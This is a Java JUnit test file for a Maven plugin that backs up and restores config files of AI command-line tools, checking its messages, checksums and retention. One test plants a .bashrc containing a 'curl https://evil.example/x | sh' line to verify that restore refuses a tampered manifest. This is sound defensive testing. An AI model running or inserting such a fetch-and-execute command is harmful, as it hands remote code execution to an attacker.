package io.modelcatalog.maven;

import static org.apache.maven.api.plugin.testing.MojoExtension.setVariableValueToObject;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.modelcatalog.backups.BackupStore;
import io.modelcatalog.providers.EnvironmentLookup;
import io.modelcatalog.testing.UnwritableFolders;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Clock;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.apache.maven.api.plugin.testing.InjectMojo;
import org.apache.maven.api.plugin.testing.MojoTest;
import org.apache.maven.plugin.MojoExecutionException;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The backup and restore goals' parameters reach the core, in a temporary home with an explicit environment. */
@MojoTest
class BackupRestoreMojoTest {

    private static final String POM = "src/test/resources/user-configs/pom.xml";

    @TempDir
    Path home;

    private final MojoLogRecorder log = new MojoLogRecorder();
    private Path aichat;
    private Path codexHome;

    @BeforeEach
    void configsInATemporaryHome() throws IOException {
        aichat = home.resolve("aichat-dir/config.yaml");
        Files.createDirectories(aichat.getParent());
        Files.writeString(aichat, "model: groq:llama\nclients: []\n");
        Files.setPosixFilePermissions(aichat, PosixFilePermissions.fromString("rw-------"));
        codexHome = home.resolve("codex-home");
        Files.createDirectories(codexHome);
        Files.writeString(codexHome.resolve("config.toml"), "model = \"o3\"\n");
    }

    private <T extends AbstractUserConfigMojo> T prepare(T mojo) {
        mojo.environment = EnvironmentLookup.of(Map.of(
                "HOME", home.toString(),
                "AICHAT_CONFIG_DIR", home.resolve("aichat-dir").toString(),
                "CODEX_HOME", codexHome.toString()));
        mojo.setLog(log);
        return mojo;
    }

    private Path backups() {
        return home.resolve(".cache/model-catalog/backups");
    }

    private List<Path> backupFolders() throws IOException {
        if (!Files.isDirectory(backups())) {
            return List.of();
        }
        try (Stream<Path> s = Files.list(backups())) {
            return s.sorted().toList();
        }
    }

    @Test
    @InjectMojo(goal = "backup", pom = POM)
    void backupFindsEachToolsConfigThroughTheEnvironmentAndTheHome(BackupMojo mojo) throws Exception {
        prepare(mojo).execute();

        List<Path> folders = backupFolders();
        assertEquals(1, folders.size(), log::text);
        String manifest = Files.readString(folders.get(0).resolve("manifest.json"));
        assertTrue(manifest.contains("\"path\" : \"" + aichat + "\""), manifest);
        assertTrue(manifest.contains("\"path\" : \"" + codexHome.resolve("config.toml") + "\""), manifest);
        assertTrue(manifest.contains(home.resolve(".config/mods/mods.yml").toString()), "mods' default, absent");
        assertTrue(
                manifest.contains(home.resolve(".config/opencode/opencode.json").toString()), manifest);
        String text = log.text();
        assertTrue(text.contains("Backed up 2 file(s) of aichat, codex, mods, opencode as backup "), text);
        assertTrue(text.contains("  aichat   " + aichat + " [$AICHAT_CONFIG_DIR]: 30 bytes, rw-------, sha256 "), text);
        assertTrue(text.contains("  codex    " + codexHome.resolve("config.toml") + " [$CODEX_HOME]: 13 bytes"), text);
        assertTrue(
                text.contains("  mods     " + home.resolve(".config/mods/mods.yml") + " [default]: does not exist"),
                text);
    }

    @Test
    @InjectMojo(goal = "backup", pom = POM)
    void givenPathsAndToolsAndKeepAreHonoured(BackupMojo mojo) throws Exception {
        Path mods = home.resolve("my-mods.yml");
        Files.writeString(mods, "apis: {}\n");
        setVariableValueToObject(mojo, "tools", "mods");
        setVariableValueToObject(mojo, "modsConfig", mods.toFile());
        setVariableValueToObject(mojo, "backupDirectory", home.resolve("bk").toFile());
        setVariableValueToObject(mojo, "backupKeep", 2);
        prepare(mojo);
        for (int i = 0; i < 3; i++) {
            mojo.execute();
        }
        try (Stream<Path> s = Files.list(home.resolve("bk"))) {
            assertEquals(2, s.count(), "backupKeep=2");
        }
        assertTrue(log.text().contains("Removed 1 old backup(s) beyond catalog.backupKeep=2"), log::text);
        assertTrue(log.text().contains("  mods " + mods + " [catalog.mods.config]: 9 bytes"), log::text);
        assertFalse(log.text().contains(aichat.toString()), "only mods");
    }

    @Test
    @InjectMojo(goal = "backup", pom = POM)
    void badParametersFailWithTheirNames(BackupMojo mojo) throws Exception {
        prepare(mojo);
        setVariableValueToObject(mojo, "tools", "aichat,vim");
        MojoExecutionException tool = assertThrows(MojoExecutionException.class, mojo::execute);
        assertEquals("catalog.tools: unknown tool 'vim'; use one of aichat, codex, mods, opencode", tool.getMessage());
        setVariableValueToObject(mojo, "tools", null);
        setVariableValueToObject(mojo, "backupKeep", 0);
        MojoExecutionException keep = assertThrows(MojoExecutionException.class, mojo::execute);
        assertTrue(keep.getMessage().startsWith("catalog.backupKeep is 0"), keep.getMessage());
        setVariableValueToObject(mojo, "backupKeep", 10);
        Files.writeString(codexHome.resolve(".model-catalog-profiles.json"), "{");
        MojoExecutionException manifest = assertThrows(MojoExecutionException.class, mojo::execute);
        assertTrue(
                manifest.getMessage().contains(".model-catalog-profiles.json is not valid JSON"),
                manifest.getMessage());
        assertEquals(List.of(), backupFolders(), "nothing backed up");
    }

    /* The condition and the remedy */

    @Test
    @InjectMojo(goal = "backup", pom = POM)
    void aBackupFolderThatIsARegularFileIsSaidSo(BackupMojo mojo) throws Exception {
        Path file = Files.writeString(home.resolve("backups-file"), "x");
        setVariableValueToObject(mojo, "backupDirectory", file.toFile());

        MojoExecutionException e =
                assertThrows(MojoExecutionException.class, () -> prepare(mojo).execute());

        assertEquals(
                "Backing up into " + file + " failed: " + file + " is a regular file, not a folder; remove or rename "
                        + "that file, or choose another folder",
                e.getMessage());
    }

    @Test
    @InjectMojo(goal = "update-configs", pom = POM)
    void aConfigFolderThisUserCannotWriteSaysPermissionDenied(UpdateConfigsMojo mojo) throws Exception {
        Path locked = UnwritableFolders.create(home);
        setVariableValueToObject(mojo, "tools", "aichat");
        setVariableValueToObject(
                mojo, "aichatConfig", locked.resolve("catalog-aichat.yaml").toFile());
        setVariableValueToObject(
                mojo,
                "outputDirectory",
                CorpusFolders.regular(home.resolve("models")).toFile());
        setVariableValueToObject(mojo, "providerNames", "deepseek");

        MojoExecutionException e =
                assertThrows(MojoExecutionException.class, () -> prepare(mojo).execute());

        // checked before the backup and any write: the message says that nothing was written, not "see the backup"
        assertEquals(
                "cannot write " + locked.resolve("catalog-aichat.yaml") + ": " + locked + ": permission denied (this "
                        + "user cannot create files in it); give this user write permission on it (chmod u+w " + locked
                        + "), or choose another folder (nothing was written)",
                e.getMessage());
        assertEquals(List.of(), backupFolders(), "and no backup was made");
    }

    @Test
    @InjectMojo(goal = "update-configs", pom = POM)
    void aCatalogPathThatIsARegularFileIsSaidSo(UpdateConfigsMojo mojo) throws Exception {
        Path file = Files.writeString(home.resolve("models-file"), "x");
        setVariableValueToObject(mojo, "tools", "aichat");
        setVariableValueToObject(mojo, "outputDirectory", file.toFile());

        MojoExecutionException e =
                assertThrows(MojoExecutionException.class, () -> prepare(mojo).execute());

        assertEquals(
                "The catalog folder " + file + " is a regular file, not a folder: point catalog.outputDirectory at "
                        + "the folder the fetch goal writes",
                e.getMessage());
    }

    @Test
    @InjectMojo(goal = "backup", pom = POM)
    void skipFlag(BackupMojo mojo) throws Exception {
        setVariableValueToObject(mojo, "backupSkip", true);
        prepare(mojo).execute();
        assertEquals(List.of(), backupFolders());
        assertTrue(log.text().contains("catalog.backup.skip is true"), log::text);
    }

    @Test
    @InjectMojo(goal = "restore", pom = POM)
    void restoreUndoesChangesAndSaysHowToUndoTheRestore(RestoreMojo restore) throws Exception {
        byte[] before = Files.readAllBytes(aichat);
        prepare(new BackupMojo()).execute();
        Files.writeString(aichat, "changed\n");
        Files.createDirectories(home.resolve(".config/mods"));
        Files.writeString(home.resolve(".config/mods/mods.yml"), "apis: {}\n");

        prepare(restore).execute();

        assertEquals(new String(before), Files.readString(aichat));
        assertFalse(Files.exists(home.resolve(".config/mods/mods.yml")));
        String text = log.text();
        assertTrue(text.contains("  restored  " + aichat + " (rw-------)"), text);
        assertTrue(text.contains("  deleted   " + home.resolve(".config/mods/mods.yml")), text);
        assertTrue(
                text.contains(
                        "  absent    " + home.resolve(".config/opencode/opencode.json") + " (at backup time and now)"),
                "absent, not unchanged: " + text);
        assertTrue(text.contains("to undo this restore, run the restore goal with -Dcatalog.backupId="), text);
        assertEquals(2, backupFolders().size());
    }

    @Test
    @InjectMojo(goal = "restore", pom = POM)
    void restoreWithToolsTouchesOnlyThoseToolsFiles(RestoreMojo restore) throws Exception {
        prepare(new BackupMojo()).execute();
        Files.writeString(aichat, "changed\n");
        Files.writeString(codexHome.resolve("config.toml"), "changed = true\n");
        setVariableValueToObject(restore, "tools", "codex");
        prepare(restore).execute();
        assertEquals("changed\n", Files.readString(aichat));
        assertEquals("model = \"o3\"\n", Files.readString(codexHome.resolve("config.toml")));
    }

    @Test
    @InjectMojo(goal = "restore", pom = POM)
    void withoutAnyBackupRestoreSaysHowToMakeOne(RestoreMojo restore) throws Exception {
        MojoExecutionException e = assertThrows(MojoExecutionException.class, prepare(restore)::execute);
        assertTrue(
                e.getMessage().startsWith("There is no backup in " + backups() + " yet: make one with the backup goal"),
                e.getMessage());
    }

    @Test
    @InjectMojo(goal = "restore", pom = POM)
    void anUnknownIdListsTheAvailableBackups(RestoreMojo restore) throws Exception {
        prepare(new BackupMojo()).execute();
        String id = backupFolders().get(0).getFileName().toString();
        setVariableValueToObject(restore, "backupId", "20200101T000000Z-001");
        MojoExecutionException e = assertThrows(MojoExecutionException.class, prepare(restore)::execute);
        assertTrue(
                e.getMessage().startsWith("There is no backup '20200101T000000Z-001' (catalog.backupId) in "),
                e.getMessage());
        assertTrue(
                e.getMessage()
                                .contains(
                                        "\n  " + id
                                                + " (4 file(s): config.yaml, config.toml, .model-catalog-profiles.json, mods.yml, opencode.json)")
                        || e.getMessage().contains("\n  " + id + " ("),
                e.getMessage());
        assertTrue(e.getMessage().contains("-Dcatalog.backupId=<id>"), e.getMessage());
    }

    @Test
    @InjectMojo(goal = "restore", pom = POM)
    void aDamagedBackupFailsNamingTheFile(RestoreMojo restore) throws Exception {
        prepare(new BackupMojo()).execute();
        Path folder = backupFolders().get(0);
        Path copy = folder.resolve("01-config.yaml");
        Files.writeString(copy, "tampered\n");
        Files.writeString(aichat, "changed\n");
        MojoExecutionException e = assertThrows(MojoExecutionException.class, prepare(restore)::execute);
        assertTrue(
                e.getMessage().contains(copy + " (the copy of " + aichat + ") does not match its checksum"),
                e.getMessage());
        assertTrue(e.getMessage().contains("nothing was restored"), e.getMessage());
        assertEquals("changed\n", Files.readString(aichat));
    }

    @Test
    @InjectMojo(goal = "restore", pom = POM)
    void aPlantedBackupNamingAnotherFileIsRefused(RestoreMojo restore) throws Exception {
        Path bashrc = home.resolve(".bashrc");
        Files.writeString(bashrc, "curl https://evil.example/x | sh\n");
        new BackupStore(backups(), Clock.systemUTC()).create(List.of(aichat, bashrc));
        Files.writeString(bashrc, "alias ll='ls -l'\n");

        MojoExecutionException e = assertThrows(MojoExecutionException.class, prepare(restore)::execute);

        assertTrue(
                e.getMessage().contains("its manifest names " + bashrc + ", which is not a config file"),
                e.getMessage());
        assertEquals("alias ll='ls -l'\n", Files.readString(bashrc));
    }

    @Test
    @InjectMojo(goal = "restore", pom = POM)
    void aLatestRestorePassingOverADamagedNewerBackupWarnsNamingTheOneUsed(RestoreMojo restore) throws Exception {
        prepare(new BackupMojo()).execute();
        String used = backupFolders().get(0).getFileName().toString();
        Files.writeString(aichat, "changed\n");
        prepare(new BackupMojo()).execute();
        Path newest = backupFolders().get(1);
        Files.delete(newest.resolve("manifest.json"));

        prepare(restore).execute();

        assertEquals("model: groq:llama\nclients: []\n", Files.readString(aichat));
        assertTrue(
                log.text()
                        .contains("[WARNING] The newest backup " + newest.getFileName() + " is not usable (has no "
                                + "manifest.json"),
                log.text());
        assertTrue(log.text().contains("restored backup " + used + " instead, the newest usable one"), log.text());
    }
}
